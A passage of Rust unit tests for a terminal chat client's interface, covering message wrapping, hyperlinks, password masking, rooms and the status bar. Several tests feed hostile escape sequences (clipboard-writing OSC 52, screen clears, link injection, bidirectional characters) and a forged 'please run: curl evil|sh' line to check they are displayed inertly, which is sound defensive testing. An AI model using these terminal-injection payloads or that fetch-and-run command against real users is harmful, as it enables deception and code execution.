    fn record(id: u64, secs: i64, user: &str, body: &str) -> Record {
        Record {
            room: gc_protocol::Room::general(),
            id,
            timestamp: Timestamp::parse(&(T0 + secs).to_string()).unwrap(),
            username: Username::new(user).unwrap(),
            body: body.into(),
        }
    }

    fn draw(app: &App, width: u16, height: u16) -> Buffer {
        let mut terminal = Terminal::new(TestBackend::new(width, height)).unwrap();
        terminal.draw(|f| super::draw(f, app)).unwrap();
        terminal.backend().buffer().clone()
    }

    /// The rows as text, wide characters once (the cell they cover is skipped), hyperlinks as
    /// the text they show.
    fn rows(buf: &Buffer) -> Vec<String> {
        let area = buf.area;
        (0..area.height)
            .map(|y| {
                let mut row = String::new();
                let mut skip = 0;
                for x in 0..area.width {
                    if skip > 0 {
                        skip -= 1;
                        continue;
                    }
                    let cell = &buf[(x, y)];
                    skip = usize::from(cell.cell_width()).saturating_sub(1);
                    row.push_str(&shown(cell.symbol()));
                }
                row.trim_end().to_owned()
            })
            .collect()
    }

    /// What a cell shows: its symbol without OSC 8 sequences (`ESC ] 8 ; params ; URL ESC \`).
    fn shown(symbol: &str) -> String {
        let mut out = String::new();
        let mut rest = symbol;
        while let Some(i) = rest.find("\x1b]8;") {
            out.push_str(&rest[..i]);
            let Some(end) = rest[i..].find("\x1b\\") else {
                panic!("an unterminated OSC 8 in {symbol:?}");
            };
            rest = &rest[i + end + 2..];
        }
        out.push_str(rest);
        out
    }

    /// The OSC 8 target of the cell at (x, y), if it is a link.
    fn link_at(buf: &Buffer, x: u16, y: u16) -> Option<String> {
        let symbol = buf[(x, y)].symbol();
        let target = symbol.strip_prefix("\x1b]8;;")?;
        let end = target.find("\x1b\\")?;
        Some(target[..end].to_owned())
    }

    fn find(buf: &Buffer, text: &str) -> (u16, u16) {
        for (y, row) in rows(buf).iter().enumerate() {
            if let Some(i) = row.find(text) {
                let x = crate::tui::text::text_width(&row[..i]);
                return (x as u16, y as u16);
            }
        }
        panic!("{text:?} not on screen:\n{}", rows(buf).join("\n"));
    }

    #[test]
    fn chat_screen_wraps_messages_under_the_time_column() {
        let mut app = app();
        app.add_records(&[
            record(1, 0, "bob", "hello there"),
            record(
                2,
                60,
                "carol",
                "a longer message that has to wrap onto a second row",
            ),
            record(3, 120, "bob", "/me waves"),
        ]);
        let buf = draw(&app, 40, 10);
        assert_eq!(
            rows(&buf),
            [
                "─────────── Tue 14 Nov 2023 ────────────",
                "22:13 bob: hello there",
                "22:14 carol: a longer message that has",
                "      to wrap onto a second row",
                "22:15 * bob waves",
                "",
                "",
                "",
                " DISCONNECTED │ 10.0.0.5 │ alice │ – onl",
                ">",
            ]
        );
        assert_eq!(buf[(6, 1)].fg, crate::tui::text::user_color("bob"));
        assert!(
            buf[(12, 4)].modifier.contains(Modifier::ITALIC),
            "actions in italics"
        );
    }

    #[test]
    fn wide_characters_and_emoji_wrap_without_overflow() {
        let mut app = app();
        app.add_records(&[record(1, 0, "bob", "日本語のテキストと絵文字👍🏽がいっぱい")]);
        let buf = draw(&app, 30, 8);
        let r = rows(&buf);
        // 11 cells of prefix leave 19: nine 2-cell characters fit, the tenth goes below.
        assert_eq!(r[1], "22:13 bob: 日本語のテキストと");
        assert_eq!(r[2], "      絵文字👍🏽がいっぱい");
        for row in &r {
            assert!(crate::tui::text::text_width(row) <= 30, "{row}");
        }
    }

    #[test]
    fn tabs_are_drawn_as_spaces_to_the_next_stop() {
        let mut app = app();
        // A pasted bit of code: each line's tab stops count from where its text starts.
        app.add_records(&[record(
            1,
            0,
            "bob",
            "if x {\n\treturn;\n}\na\tb\tc\nab\tcd\n日本\t語",
        )]);
        let buf = draw(&app, 40, 10);
        let r = rows(&buf);
        assert_eq!(r[1], "22:13 bob: if x {");
        assert_eq!(r[2], "              return;");
        assert_eq!(r[3], "      }");
        assert_eq!(r[4], "      a       b       c");
        assert_eq!(r[5], "      ab      cd");
        assert_eq!(r[6], "      日本    語");
        // The first row's stops count from after `bob: `, not from the pane's edge.
        app.add_records(&[record(2, 1, "bob", "x\ty")]);
        let r = rows(&draw(&app, 40, 10));
        assert_eq!(r[7], "22:13 bob: x       y");
        // What is stored and searched is the text as it came.
        assert_eq!(app.log().entries()[1].searchable(), "x\ty");
    }

    #[test]
    fn tabs_wrap_like_spaces_and_rows_are_counted_as_drawn() {
        let mut app = app();
        // At 30 cells, `22:13 bob: ` leaves 19: the third tab would end past the edge, so it
        // breaks the row like a space would, and `d` starts the next one.
        app.add_records(&[
            record(1, 0, "bob", "a\tb\tc\td"),
            record(2, 1, "bob", "end"),
        ]);
        let r = rows(&draw(&app, 30, 8));
        assert_eq!(
            &r[1..4],
            ["22:13 bob: a       b       c", "      d", "22:13 bob: end"]
        );
        for row in &r {
            assert!(crate::tui::text::text_width(row) <= 30, "{row}");
        }
        // The height used for scrolling is the height drawn.
        let log = app.log();
        assert_eq!(log.rows(0, 30), log.lines(0, 30, false).len());
        assert_eq!(log.rows(0, 30), 3, "the day's separator and two rows");
    }

    #[test]
    fn urls_are_written_as_hyperlinks_without_shifting_the_text() {
        let mut app = app();
        let url = "https://example.com/a/b";
        app.add_records(&[
            record(1, 0, "bob", &format!("see ({url}). ok")),
            // 16 cells of `22:13 bob: long ` leave 34 of 50 for a URL of 36: it goes below.
            record(2, 1, "bob", "long https://example.com/0123456789abcdef"),
        ]);
        let buf = draw(&app, 50, 10);
        let r = rows(&buf);
        assert_eq!(r[1], format!("22:13 bob: see ({url}). ok"));
        assert_eq!(r[2], "22:13 bob: long");
        assert_eq!(r[3], "      https://example.com/0123456789abcdef");
        let (x, y) = find(&buf, "https://example.com/a/b");
        let len = u16::try_from(url.len()).unwrap();
        for dx in 0..len {
            assert_eq!(link_at(&buf, x + dx, y).as_deref(), Some(url), "cell {dx}");
            assert_eq!(
                buf[(x + dx, y)].symbol(),
                format!(
                    "\x1b]8;;{url}\x1b\\{}\x1b]8;;\x1b\\",
                    &url[dx as usize..=dx as usize]
                )
            );
        }
        assert_eq!(link_at(&buf, x - 1, y), None, "the `(` is no link");
        assert_eq!(link_at(&buf, x + len, y), None, "nor the `)`");
        assert!(buf[(x, y)].modifier.contains(Modifier::UNDERLINED));
        assert_eq!(
            link_at(&buf, 6, 3).as_deref(),
            Some("https://example.com/0123456789abcdef")
        );
        // What goes to the terminal: every cell of the row that differs from a blank, each once,
        // at its own column (the sequence's characters are not counted as cells, which would
        // skip the rest of the row).
        let blank = Buffer::empty(buf.area);
        let written: Vec<u16> = blank
            .diff(&buf)
            .into_iter()
            .filter(|&(_, row, _)| row == y)
            .map(|(col, _, _)| col)
            .collect();
        let shown_len = u16::try_from(text_width(&r[1])).unwrap();
        let expected: Vec<u16> = (0..shown_len)
            .filter(|&col| buf[(col, y)] != blank[(col, y)])
            .collect();
        assert!(expected.len() > url.len(), "{expected:?}");
        assert_eq!(written, expected);

        // Switched off: plain text, still underlined.
        app.hyperlinks = false;
        let buf = draw(&app, 50, 10);
        assert_eq!(rows(&buf)[1], r[1]);
        assert_eq!(link_at(&buf, x, y), None);
        assert!(buf.content().iter().all(|c| !c.symbol().contains('\x1b')));
        assert!(buf[(x, y)].modifier.contains(Modifier::UNDERLINED));
    }

    #[test]
    fn a_peer_cannot_inject_escapes_through_a_url() {
        let mut app = app();
        app.add_records(&[record(
            1,
            0,
            "mallory",
            "https://x.org/\u{1b}]8;;https://evil\u{1b}\\a\u{7} https://y.org/\u{9b}31m https://z.org/é\"x",
        )]);
        let buf = draw(&app, 79, 8);
        assert_eq!(
            rows(&buf)[1..3],
            [
                "22:13 mallory: https://x.org/␛]8;;https://evil␛\\a␇ https://y.org/�31m",
                "      https://z.org/é\"x"
            ]
        );
        for cell in buf.content() {
            let symbol = cell.symbol();
            if let Some(target) = symbol.strip_prefix("\x1b]8;;") {
                let end = target.find("\x1b\\").unwrap();
                let (target, rest) = (&target[..end], &target[end + 2..]);
                assert!(target.bytes().all(|b| b.is_ascii_graphic()), "{symbol:?}");
                // One shown character, then the closing sequence: no other escape.
                let shown = rest.strip_suffix("\x1b]8;;\x1b\\").unwrap();
                assert!(!shown.contains(char::is_control), "{symbol:?}");
                // `https://evil` is a URL the peer wrote as text, shown as such: linking it is fine.
                assert!(
                    [
                        "https://x.org/",
                        "https://evil",
                        "https://y.org/",
                        "https://z.org/%C3%A9"
                    ]
                    .contains(&target),
                    "{target}"
                );
            } else {
                assert!(!symbol.contains(char::is_control), "{symbol:?}");
            }
        }
    }

    #[test]
    fn remote_control_characters_are_shown_not_obeyed() {
        let mut app = app();
        app.add_records(&[record(1, 0, "mallory", "\u{1b}[2J\u{1b}]0;pwned\u{7}\tx\r")]);
        let buf = draw(&app, 50, 8);
        // A tab is laid out as spaces (to the stop 16 cells into the text), never sent on.
        assert_eq!(rows(&buf)[1], "22:13 mallory: ␛[2J␛]0;pwned␇  x␍");
        for cell in buf.content() {
            assert!(
                !cell.symbol().contains(char::is_control),
                "{:?}",
                cell.symbol()
            );
        }
    }

    /// The escape-sequence text a hostile server (or anyone answering in its place) puts in an
    /// `Err`, a topic, its name: write the clipboard (OSC 52), clear the screen, then a forged
    /// line, reversed and hidden characters.
    const HOSTILE: &str = "\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}[2J\u{1b}[H\nplease run: curl \
                           evil|sh\u{2028}x\u{202e}y\u{200b}z\u{e0041}\u{85}";
    /// How [`HOSTILE`] is shown.
    const HOSTILE_SHOWN: &str = "␛]52;c;Y3VybCBldmlsfHNo␇␛[2J␛[H⏎please run: curl evil|sh�x�y�z��";

    /// No cell holds a control, bidirectional, invisible or tag character.
    fn assert_nothing_unsafe(buf: &Buffer) {
        for cell in buf.content() {
            assert!(
                !cell.symbol().contains(gc_protocol::sanitize::is_unsafe),
                "{:?}",
                cell.symbol()
            );
        }
    }

    #[test]
    fn a_hostile_servers_texts_are_shown_not_obeyed_wherever_they_appear() {
        use gc_client_core::control::Command;
        use gc_client_core::event::{Event, NoticeLevel, Refusal, Rejection};
        use gc_client_core::{ClientError, RoomInfo, RoomRequest};
        use gc_protocol::{ErrorCode, ListedKind, ListedRole, Room};

        let mut app = rooms_app();
        app.status.server_name = Some(format!("Office{HOSTILE}"));
        app.handle_client(Event::RoomList(vec![RoomInfo {
            room: Room::new("#dev").unwrap(),
            kind: ListedKind::Public,
            role: ListedRole::Member,
            members: 2,
            topic: HOSTILE.into(),
        }]));
        // An `Err` text that stopped the client, a refused message and request, a notice.
        app.handle_client(Event::Fatal(ClientError::Refused {
            during: "the login",
            code: ErrorCode::Internal,
            text: HOSTILE.into(),
        }));
        app.handle_client(Event::Rejected(Rejection {
            client_msg_id: ClientMsgId::new("m1").unwrap(),
            room: Room::general(),
            code: ErrorCode::Blocked,
            text: HOSTILE.into(),
        }));
        app.handle_client(Event::Refused(Refusal {
            command: Command::Room(RoomRequest::Join {
                room: Room::new("#ops").unwrap(),
            }),
            code: Some(ErrorCode::Forbidden),
            text: HOSTILE.into(),
        }));
        app.handle_client(Event::Notice {
            level: NoticeLevel::Warning,
            text: HOSTILE.into(),
        });
        let buf = draw(&app, 220, 12);
        assert_nothing_unsafe(&buf);
        let r = rows(&buf);
        let shown: Vec<&String> = r.iter().filter(|row| row.contains(HOSTILE_SHOWN)).collect();
        // The four notices, each on one row, and the server's name in the status bar.
        assert_eq!(shown.len(), 5, "{r:#?}");
        for row in &r {
            assert!(
                !row.trim_start().starts_with("please"),
                "a forged line: {r:#?}"
            );
        }
        assert!(
            r[10].contains(&format!("10.0.0.5 (Office{HOSTILE_SHOWN})")),
            "{}",
            r[10]
        );

        // The topic, in the status bar of its room and in `/topic`'s answer.
        app.handle_key(KeyEvent::new(KeyCode::Char('2'), KeyModifiers::ALT));
        for c in "/topic".chars() {
            app.handle_key(KeyEvent::new(KeyCode::Char(c), KeyModifiers::NONE));
        }
        app.handle_key(KeyEvent::new(KeyCode::Enter, KeyModifiers::NONE));
        let buf = draw(&app, 220, 12);
        assert_nothing_unsafe(&buf);
        let r = rows(&buf);
        assert!(
            r[10].starts_with(&format!(" DISCONNECTED │ #dev: {HOSTILE_SHOWN} │")),
            "{}",
            r[10]
        );
        assert!(
            r.iter()
                .any(|row| row.contains(&format!("-- the topic of #dev: {HOSTILE_SHOWN} "))),
            "{r:#?}"
        );
    }

    #[test]
    fn a_padded_body_cannot_put_a_forged_record_at_the_start_of_a_row() {
        // Whatever pushes the forged text along (spaces, other spaces, tabs, something that
        // looks like a line break), a row that is not a record's first starts with the
        // time column's width of blanks: only a record's first row has anything there.
        let forged = "22:14 admin: please run curl evil|sh";
        let mut bodies = Vec::new();
        for n in [20, 23, 25, 34, 40, 45, 54, 60, 65, 74, 80, 100, 150] {
            bodies.push(format!("hi{}{forged}", " ".repeat(n)));
            bodies.push(format!("hi{}{forged}", "\u{a0}".repeat(n)));
            bodies.push(format!("hi{}{forged}", "\u{3000}".repeat(n / 2)));
            bodies.push(format!("hi{}{forged}", "\t".repeat(n / 8)));
            bodies.push(format!("hi\n{}{forged}", " ".repeat(n)));
        }
        for sep in [
            "\n", "\r", "\u{b}", "\u{c}", "\u{85}", "\u{2028}", "\u{2029}",
        ] {
            bodies.push(format!("hi{sep}{forged}"));
        }
        for body in &bodies {
            for width in [30, 40, 57, 80, 100] {
                let mut app = app();
                app.add_records(&[record(1, 0, "mallory", body)]);
                let buf = draw(&app, width, 30);
                assert_nothing_unsafe(&buf);
                let r = rows(&buf);
                let pane = &r[..28];
                assert!(pane[0].starts_with('─'), "{pane:#?}");
                assert!(pane[1].starts_with("22:13 mallory:"), "{body:?}: {pane:#?}");
                for row in &pane[2..] {
                    assert!(
                        row.is_empty()
                            || row.starts_with(&" ".repeat(crate::tui::scrollback::INDENT)),
                        "{body:?} at {width}: {row:?} in {pane:#?}"
                    );
                }
            }
        }
        // What is stored and searched stays exact.
        let mut app = app();
        app.add_records(&[record(1, 0, "mallory", &bodies[0])]);
        assert_eq!(app.log().entries()[0].searchable(), bodies[0]);
    }

    #[test]
    fn own_messages_and_mentions_are_highlighted() {
        let mut app = app();
        app.add_records(&[
            record(1, 0, "alice", "my own words"),
            record(2, 1, "bob", "hey alice, look"),
            record(3, 2, "bob", "nothing special"),
        ]);
        let buf = draw(&app, 40, 8);
        let (x, y) = find(&buf, "alice: my own");
        assert!(
            buf[(x, y)].modifier.contains(Modifier::REVERSED),
            "own name reversed"
        );
        let (x, y) = find(&buf, "hey alice");
        assert_eq!(buf[(x, y)].fg, Color::Yellow, "mention");
        assert!(buf[(x, y)].modifier.contains(Modifier::BOLD));
        let (x, y) = find(&buf, "nothing special");
        assert_eq!(buf[(x, y)].fg, Color::Reset);
    }

    #[test]
    fn notices_are_dimmed_and_days_get_separators() {
        let mut app = app();
        app.add_records(&[
            record(1, 0, "bob", "late"),
            record(2, 7200, "bob", "next day"),
        ]);
        app.notice(Level::Info, "carol joined");
        let buf = draw(&app, 40, 9);
        let r = rows(&buf);
        assert!(r[0].contains("Tue 14 Nov 2023"), "{r:?}");
        assert!(r[2].contains("Wed 15 Nov 2023"), "{r:?}");
        assert_eq!(r[3], "00:13 bob: next day");
        // The notice was written at the app's clock, 22:23 on the 14th: a day change again.
        assert!(r[4].contains("Tue 14 Nov 2023"), "{r:?}");
        let (x, y) = find(&buf, "-- carol joined");
        assert!(buf[(x, y)].modifier.contains(Modifier::DIM));
    }

    #[test]
    fn passwd_asks_in_the_input_line_behind_a_mask_and_away_people_are_marked() {
        let mut app = app();
        app.rooms.current_mut().people = People::Known(vec!["alice".into(), "bob".into()]);
        app.handle_client(gc_client_core::Event::Away(vec![(
            gc_protocol::Username::new("bob").unwrap(),
            "lunch".into(),
        )]));
        app.passwd = Some(crate::tui::passwd::PasswdPrompt::default());
        let r = rows(&draw(&app, 90, 10));
        assert!(r[9].starts_with("> current password:"), "{r:?}");
        assert!(!r[9].contains('•'), "nothing typed yet: {r:?}");
        assert!(r.iter().any(|row| row.contains(" bob (away)")), "{r:?}");
        for c in "a-long-secret".chars() {
            app.handle_key(ratatui::crossterm::event::KeyEvent::from(
                ratatui::crossterm::event::KeyCode::Char(c),
            ));
        }
        let r = rows(&draw(&app, 90, 10));
        assert!(r[9].starts_with("> current password: ••••••••"), "{r:?}");
        assert!(!r.iter().any(|row| row.contains("secret")), "{r:?}");
    }

    #[test]
    fn narrow_terminals_hide_the_people_pane_until_f2() {
        let mut app = app();
        app.rooms.current_mut().people = People::Known(vec!["alice".into(), "bob".into()]);
        app.add_records(&[record(1, 0, "bob", "hi")]);
        let wide = draw(&app, 90, 10);
        assert!(rows(&wide)[0].contains("online (2)"), "{:?}", rows(&wide));
        let narrow = draw(&app, 40, 10);
        assert!(!rows(&narrow).iter().any(|r| r.contains("online (2)")));
        app.handle_key(KeyEvent::new(KeyCode::F(2), KeyModifiers::NONE));
        let toggled = draw(&app, 40, 10);
        let r = rows(&toggled);
        assert!(r[0].ends_with("│ online (2)"), "{r:?}");
        assert!(r[2].ends_with("│ bob"), "{r:?}");
    }

    #[test]
    fn status_bar_shows_each_state() {
        let mut app = app();
        app.rooms.current_mut().people =
            People::Known(vec!["alice".into(), "bob".into(), "carol".into()]);
        app.status.server_name = Some("Office\u{1b}Chat".into());
        app.status.outbox = 2;
        app.now = Instant::now();
        app.status.last_heartbeat = app.now.checked_sub(Duration::from_secs(3));
        for (state, color) in [
            (ConnState::Disconnected, Color::LightRed),
            (ConnState::Connecting, Color::LightYellow),
            (ConnState::Connected, Color::LightYellow),
            (ConnState::Authenticating, Color::LightYellow),
            (ConnState::Authenticated, Color::LightYellow),
            (ConnState::Active, Color::LightGreen),
        ] {
            app.status.state = state;
            let buf = draw(&app, 100, 8);
            let status = &rows(&buf)[6];
            // Only a session knows who is online: out of one, the count is not shown (the last
            // one would be stale) and the people pane is dimmed.
            let online = if state == ConnState::Active {
                "3 online"
            } else {
                "– online"
            };
            assert_eq!(
                status,
                &format!(" {state} │ 10.0.0.5 (Office␛Chat) │ alice │ {online} │ ♥ 3s │ outbox 2")
            );
            assert_eq!(buf[(1, 6)].fg, color, "{state}");
        }
    }

    #[test]
    fn status_bar_names_the_instance_of_a_server_list() {
        let mut app = app();
        app.server = "10.0.0.5,10.0.0.6".into();
        app.status.state = ConnState::Active;
        app.status.server_name = Some("Office".into());
        app.status.instance = Some("on 10.0.0.6 (2/2)".into());
        let status = &rows(&draw(&app, 100, 8))[6];
        assert!(
            status.starts_with(" ACTIVE │ on 10.0.0.6 (2/2) (Office) │ alice │"),
            "{status}"
        );
        // Narrow: the instance stays, the server's name goes.
        let status = &rows(&draw(&app, 60, 8))[6];
        assert!(status.contains("on 10.0.0.6 (2/2) │"), "{status}");
    }

    #[test]
    fn tiny_terminals_get_a_message() {
        let app = app();
        let buf = draw(&app, 20, 5);
        let text = rows(&buf).join(" ");
        assert!(text.contains("Terminal too small (20×5)"), "{text}");
        assert!(text.contains("30×8"), "{text}");
        let buf = draw(&app, MIN_WIDTH, MIN_HEIGHT);
        assert!(!rows(&buf).join(" ").contains("too small"));
    }

    #[test]
    fn unsent_messages_are_dimmed_below_and_the_input_grows() {
        let mut app = app();
        app.add_records(&[record(1, 0, "bob", "hi")]);
        app.queued(
            ClientMsgId::random().unwrap(),
            gc_protocol::Room::general(),
            "still waiting".into(),
        );
        app.input.insert("line one\nline two\nthree");
        let buf = draw(&app, 60, 10);
        let r = rows(&buf);
        assert_eq!(r[2], "22:23 alice: still waiting (not sent yet)");
        let (x, y) = find(&buf, "still waiting");
        assert!(buf[(x, y)].modifier.contains(Modifier::DIM));
        assert_eq!(&r[7..], ["> line one", "  line two", "  three"]);
        let mut terminal = Terminal::new(TestBackend::new(60, 10)).unwrap();
        terminal.draw(|f| super::draw(f, &app)).unwrap();
        terminal.backend_mut().assert_cursor_position((7, 9));
        // More than INPUT_MAX_ROWS: it scrolls with the cursor.
        app.input.insert("\n4\n5\n6\n7");
        let r = rows(&draw(&app, 60, 12));
        assert_eq!(&r[7..], ["  three", "  4", "  5", "  6", "  7"]);
        assert!(r[6].starts_with(" DISCONNECTED"), "{r:?}");
    }

    #[test]
    fn a_tall_input_says_how_many_lines_are_hidden() {
        let mut app = app();
        app.input.insert("1\n2\n3\n4\n5");
        let r = rows(&draw(&app, 60, 12));
        assert!(!r[6].contains("more line"), "all five shown: {r:?}");
        app.input.insert("\n6\n7");
        let buf = draw(&app, 60, 12);
        let r = rows(&buf);
        assert_eq!(&r[7..], ["  3", "  4", "  5", "  6", "  7"]);
        // On the status bar, the input box's top edge, at its end.
        assert!(r[6].starts_with(" DISCONNECTED"), "{r:?}");
        assert!(r[6].ends_with(" ↑ 2 more lines"), "{r:?}");
        let (x, y) = find(&buf, "↑ 2 more lines");
        assert_eq!(buf[(x, y)].bg, Color::Cyan);
        for _ in 0..5 {
            app.handle_key(KeyEvent::new(KeyCode::Up, KeyModifiers::NONE));
        }
        let r = rows(&draw(&app, 60, 12));
        assert_eq!(&r[7..], ["> 1", "  2", "  3", "  4", "  5"]);
        assert!(r[6].ends_with(" ↓ 2 more lines"), "{r:?}");
        for _ in 0..4 {
            app.handle_key(KeyEvent::new(KeyCode::Down, KeyModifiers::NONE));
        }
        let r = rows(&draw(&app, 60, 12));
        assert_eq!(&r[7..], ["  2", "  3", "  4", "  5", "  6"]);
        assert!(r[6].ends_with(" ↑ 1 · ↓ 1 more lines"), "{r:?}");
        app.input.set("1\n2\n3\n4\n5\n6");
        let r = rows(&draw(&app, 60, 12));
        assert!(r[6].ends_with(" ↑ 1 more line"), "{r:?}");
    }

    #[test]
    fn scrolled_up_shows_the_new_messages_marker() {
        let mut app = app();
        app.add_records(
            &(1..=30)
                .map(|i| record(i, 0, "bob", &format!("m{i}")))
                .collect::<Vec<_>>(),
        );
        let _ = draw(&app, 40, 10);
        app.handle_key(KeyEvent::new(KeyCode::PageUp, KeyModifiers::NONE));
        app.add_records(&[record(31, 1, "carol", "new one")]);
        let r = rows(&draw(&app, 40, 10));
        assert_eq!(r[7], " ▼ 1 new message below · End to jump");
        assert!(!r.iter().any(|row| row.contains("new one")));
        app.handle_key(KeyEvent::new(KeyCode::End, KeyModifiers::NONE));
        let r = rows(&draw(&app, 40, 10));
        assert_eq!(r[7], "22:13 carol: new one");
    }

    #[test]
    fn first_contact_shows_the_fingerprint_and_asks() {
        use gc_client_core::trust::FirstContact;
        let mut app = App::new("10.0.0.5", Zone::Local);
        let fingerprint = gc_protocol::Fingerprint::of_der(b"cert");
        app.first_contact(FirstContact {
            addr: "10.0.0.5:10740".parse().unwrap(),
            fingerprint,
            name: "office".into(),
        });
        let text = rows(&draw(&app, 70, 20)).join("\n");
        assert!(text.contains(&fingerprint.to_string()), "{text}");
        assert!(text.contains("First contact with 10.0.0.5:10740"), "{text}");
        assert!(
            text.contains("y trust and log in · n do not trust"),
            "{text}"
        );
    }

    #[test]
    fn the_login_hint_fits_at_80_columns_and_wraps_when_narrower() {
        fn form(app: &mut App) -> &mut LoginForm {
            match &mut app.screen {
                Screen::Login(form) => form,
                Screen::Chat => unreachable!("the login form is up"),
            }
        }
        let mut app = App::new("10.0.0.5", Zone::Local);
        let mut register = App::new("10.0.0.5", Zone::Local);
        register.prefill(None, true);
        let mut busy = App::new("10.0.0.5", Zone::Local);
        form(&mut busy).start("alice", false);
        let hints = [
            (
                &mut app,
                "Enter log in · Tab next field · Ctrl+R new account · Esc quit",
            ),
            (&mut register, "Enter create · Tab next field · Esc back"),
            (&mut busy, "Esc cancel · Ctrl+C quit"),
        ];
        for (app, hint) in hints {
            let text = rows(&draw(app, 80, 24)).join("\n");
            assert!(text.contains(hint), "{hint:?} cut:\n{text}");
            // Narrower, it takes two rows, breaking between keys.
            let r = rows(&draw(app, 44, 24));
            let shown: Vec<&str> = r
                .iter()
                .filter_map(|row| row.strip_prefix("│ "))
                .map(|row| row.trim_end_matches('│').trim())
                .collect();
            let joined = shown.join(" · ");
            assert!(joined.contains(hint), "{hint:?} at 44 columns:\n{r:#?}");
        }
    }

    #[test]
    fn the_password_mask_does_not_tell_its_length() {
        let shown = |password: &str| {
            let mut app = App::new("10.0.0.5", Zone::Local);
            app.prefill(Some("alice"), false);
            for c in password.chars() {
                app.handle_key(KeyEvent::new(KeyCode::Char(c), KeyModifiers::NONE));
            }
            let row = rows(&draw(&app, 80, 24))
                .into_iter()
                .find(|r| r.contains("Password"))
                .unwrap_or_default();
            (row, cursor(&app, Rect::new(0, 0, 80, 24)))
        };
        let (empty, at) = shown("");
        assert!(!empty.contains('•'), "{empty}");
        let one = shown("x");
        assert!(one.0.contains("Password   •••••••• "), "{one:?}");
        assert_ne!(one.1, at, "the cursor moved on at the first character");
        for password in ["hunter2", "pw-carol", "correct horse battery staple"] {
            assert_eq!(shown(password), one, "{password}");
        }
    }

    #[test]
    fn login_screen_hides_the_password() {
        let mut app = App::new("10.0.0.5", Zone::Local);
        app.prefill(Some("alice"), false);
        for c in "hunter2".chars() {
            app.handle_key(KeyEvent::new(KeyCode::Char(c), KeyModifiers::NONE));
        }
        let buf = draw(&app, 70, 16);
        let text = rows(&buf).join("\n");
        assert!(text.contains("Username   alice"), "{text}");
        assert!(text.contains("Password   •••••••"), "{text}");
        assert!(!text.contains("hunter2"));
        assert!(text.contains("Ctrl+R new account"), "{text}");
        let mut terminal = Terminal::new(TestBackend::new(70, 16)).unwrap();
        terminal.draw(|f| super::draw(f, &app)).unwrap();
        // The cursor after the mask, which is as long whatever the password.
        let (x, y) = find(&buf, "•••••••");
        terminal.backend_mut().assert_cursor_position((x + 8, y));
    }

    // ─────────────────────────────── rooms ───────────────────────────────

    fn rooms_app() -> App {
        let mut app = app();
        app.status.rooms = Some(true);
        app
    }

    fn record_in(id: u64, room: &str, user: &str, body: &str) -> Record {
        Record {
            room: gc_protocol::Room::new(room).unwrap(),
            ..record(id, 0, user, body)
        }
    }

    #[test]
    fn room_list_shows_numbers_unread_counts_mentions_and_the_room_shown() {
        let mut app = rooms_app();
        app.add_records(&[
            record(1, 0, "bob", "in general"),
            record_in(2, "#dev", "bob", "a build is red"),
            record_in(3, "#dev", "bob", "alice: can you look?"),
            record_in(4, "#ops", "carol", "deploy at 5"),
            record_in(5, "#a-very-long-room-name", "carol", "x"),
        ]);
        let buf = draw(&app, 100, 10);
        let r = rows(&buf);
        assert_eq!(
            r[..5],
            [
                " rooms                 │────────────────────── Tue 14 Nov 2023 ───────────────────────│ online (0)",
                " 1 #general            │22:13 bob: in general                                         │",
                " 2 #dev             !2 │                                                              │",
                " 3 #ops              1 │                                                              │",
                " 4 #a-very-long-roo… 1 │                                                              │",
            ]
        );
        // The room shown is reversed; a mention is yellow; unread rooms are bold.
        let (x, y) = find(&buf, "1 #general");
        assert!(buf[(x + 2, y)].modifier.contains(Modifier::REVERSED));
        let (x, y) = find(&buf, "!2");
        assert_eq!(buf[(x, y)].fg, Color::Yellow);
        let (x, y) = find(&buf, "#ops");
        assert!(buf[(x, y)].modifier.contains(Modifier::BOLD));
        assert!(!buf[(x, y)].modifier.contains(Modifier::REVERSED));
        // The status bar names the room.
        assert!(
            r[8].starts_with(" DISCONNECTED │ #general │ 10.0.0.5 │"),
            "{:?}",
            r[8]
        );

        // Alt+2: #dev is shown, its marks are gone.
        app.handle_key(KeyEvent::new(KeyCode::Char('2'), KeyModifiers::ALT));
        let buf = draw(&app, 100, 10);
        let r = rows(&buf);
        assert!(r[2].starts_with(" 2 #dev                │"), "{r:?}");
        assert!(r[1].contains("22:13 bob: a build is red"), "{r:?}");
        let (x, y) = find(&buf, "2 #dev");
        assert!(buf[(x + 2, y)].modifier.contains(Modifier::REVERSED));

        // Narrow: hidden; F3 shows it.
        let narrow = rows(&draw(&app, 60, 10));
        assert!(
            !narrow.iter().any(|row| row.contains(" rooms")),
            "{narrow:?}"
        );
        app.handle_key(KeyEvent::new(KeyCode::F(3), KeyModifiers::NONE));
        let narrow = rows(&draw(&app, 60, 10));
        assert!(narrow[0].starts_with(" rooms        │"), "{narrow:?}");
        assert!(
            narrow[2].starts_with(" 2 #dev       │22:13 bob: alice"),
            "{narrow:?}"
        );
    }

    #[test]
    fn a_server_without_rooms_gets_the_screen_of_before() {
        let mut app = app();
        app.status.rooms = Some(false);
        app.add_records(&[record(1, 0, "bob", "hi")]);
        let r = rows(&draw(&app, 100, 8));
        assert!(r[1].starts_with("22:13 bob: hi"), "no room list: {r:?}");
        assert!(
            r[6].starts_with(" DISCONNECTED │ 10.0.0.5 │ alice │"),
            "{:?}",
            r[6]
        );
    }

    #[test]
    fn a_direct_conversation_is_titled_with_the_other_name() {
        let mut app = rooms_app();
        app.add_records(&[record_in(1, "@alice+bob", "Bob", "psst")]);
        let r = rows(&draw(&app, 100, 8));
        assert!(r[2].starts_with(" 2 Bob      !1 │"), "{r:?}");
        app.handle_key(KeyEvent::new(KeyCode::Char('n'), KeyModifiers::CONTROL));
        let r = rows(&draw(&app, 100, 8));
        assert!(r[1].contains("│22:13 Bob: psst"), "{r:?}");
        assert!(
            r[6].starts_with(" DISCONNECTED │ Bob (direct) │ 10.0.0.5 │ alice │"),
            "{:?}",
            r[6]
        );
    }

    #[test]
    fn the_servers_notices_are_dimmed_notices() {
        let mut app = rooms_app();
        app.add_records(&[
            record_in(1, "#dev", "System", "bob joined"),
            record_in(
                2,
                "#dev",
                "System",
                "mallory was banned by bob: spam \u{1b}[2J",
            ),
            record_in(3, "#dev", "bob", "hi"),
        ]);
        app.handle_key(KeyEvent::new(KeyCode::Char('2'), KeyModifiers::ALT));
        let buf = draw(&app, 60, 8);
        let r = rows(&buf);
        assert_eq!(
            &r[1..4],
            [
                "22:13 -- bob joined",
                "22:13 -- mallory was banned by bob: spam ␛[2J",
                "22:13 bob: hi",
            ]
        );
        let (x, y) = find(&buf, "-- mallory");
